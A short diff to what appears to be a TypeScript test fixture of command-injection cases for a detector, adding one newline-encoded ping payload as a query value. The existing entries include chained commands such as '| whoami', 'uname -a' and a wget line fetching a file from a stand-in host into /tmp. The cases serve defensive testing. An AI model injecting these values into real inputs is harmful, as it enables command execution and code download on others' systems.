@@ -29,6 +29,7 @@ export const CMDI_CASES: readonly CmdiCase[] = [
   { input: 'foo.txt | whoami', expect: 'cmdi/chained-command' },
   { input: 'x || ping -c 10 127.0.0.1', expect: 'cmdi/chained-command' },
   { input: '%0Aid', kind: 'query-value', expect: 'cmdi/chained-command' },
+  { input: '%0a ping -i 30 127.0.0.1 %0a', kind: 'query-value', expect: 'cmdi/chained-command', min: 0.9 },
   { input: '%250Aid', kind: 'query-value', expect: 'cmdi/chained-command' },
   { input: 'a\nuname -a', expect: 'cmdi/chained-command' },
   { input: "x'; wget http://203.0.113.9/a -O /tmp/a; '", expect: 'cmdi/chained-command' },
